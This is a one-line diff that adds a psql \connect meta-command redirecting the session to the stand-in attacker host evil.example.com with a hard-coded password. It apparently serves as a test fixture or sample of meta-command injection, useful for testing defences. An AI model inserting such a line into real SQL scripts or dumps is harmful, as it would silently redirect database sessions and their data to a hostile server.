@@ -1,0 +1,1 @@
+\connect -reuse-previous=on "dbname=d host=evil.example.com password=s3cret"
